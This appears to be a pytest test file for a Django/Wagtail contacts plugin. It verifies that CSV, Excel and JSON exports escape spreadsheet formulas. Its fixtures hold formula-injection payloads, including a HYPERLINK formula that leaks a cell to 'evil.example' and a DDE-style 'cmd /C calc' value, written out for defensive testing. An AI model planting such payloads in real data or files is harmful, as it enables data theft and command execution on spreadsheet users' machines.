"""Exports that cannot run code: every cell of every export (contacts CSV and Excel, a
segment's CSV, a campaign's recipients, xpm_export as CSV and JSON) is formula-escaped, list
values too, and the Excel cells are text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from wagtail_xpm.contacts import exports
from wagtail_xpm.models import CampaignRecipient, Contact, FieldMapping

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_GROUP = "+cmd|' /C calc'!A0"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(firms):
    """Site A's contact, named and grouped (a list value, as XPM client groups are) to run."""
    contact = firms.a.contact
    contact.name = EVIL
    contact.phone = "-2+3"
    contact.data = {"account_manager": "@SUM(1,2)", "groups": ["Gold", EVIL_GROUP, "\tTab"]}
    contact.save()
    CampaignRecipient.objects.filter(pk=firms.a.recipient.pk).update(name=EVIL, email="=1+1")
    return firms


def cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(cells) -> None:
    cells = list(cells)
    assert cells
    for cell in cells:
        assert not str(cell).startswith(DANGEROUS_STARTS), cell


def test_the_one_escaping_function():
    assert exports.safe_text("=1+1") == "'=1+1"
    assert exports.safe_text("Plain") == "Plain"
    assert exports.csv_cell(["Gold", "=BAD"]) == "Gold; '=BAD"
    assert exports.csv_cell(["-1", "x"]) == "'-1; x"
    assert exports.csv_cell(True) == "yes" and exports.csv_cell(None) == ""
    assert exports.json_value({"a": ["@x", 3, None]}) == {"a": ["'@x", 3, None]}


def test_admin_downloads_are_inert(poisoned):
    superuser = poisoned.client("superuser")
    response = superuser.get(reverse("wagtail_xpm_contact:index"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "'" + EVIL.replace('"', '""') in text
    assert_inert(cells_of_csv(text))

    response = superuser.get(reverse("wagtail_xpm_contact:index"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells)
    assert_inert(cell.value for cell in cells)
    assert any(cell.value == "'" + EVIL for cell in cells)

    segment_csv = superuser.get(
        reverse("wagtail_xpm_segments:export", args=[poisoned.a.segment.pk])
    )
    assert_inert(cells_of_csv(b"".join(segment_csv.streaming_content).decode()))

    recipients = superuser.get(
        reverse("wagtail_xpm_campaigns:recipients", args=[poisoned.a.campaign.pk])
    )
    assert_inert(cells_of_csv(b"".join(recipients.streaming_content).decode()))


def test_the_command_exports_are_inert(poisoned):
    FieldMapping.objects.filter(connection=poisoned.a.connection, key="groups").update(
        value_type="list"
    )
    out = io.StringIO()
    call_command("xpm_export", "--site", "localhost", stdout=out)
    assert_inert(cells_of_csv(out.getvalue()))
    out = io.StringIO()
    call_command("xpm_export", "--site", "localhost", "--format", "json", stdout=out)
    [row] = json.loads(out.getvalue())
    assert row["name"] == "'" + EVIL
    assert row["groups"] == ["Gold", "'" + EVIL_GROUP, "'\tTab"]
    assert row["subscribed"] is True
    assert Contact.objects.get(pk=poisoned.a.contact.pk).name == EVIL  # the data is untouched
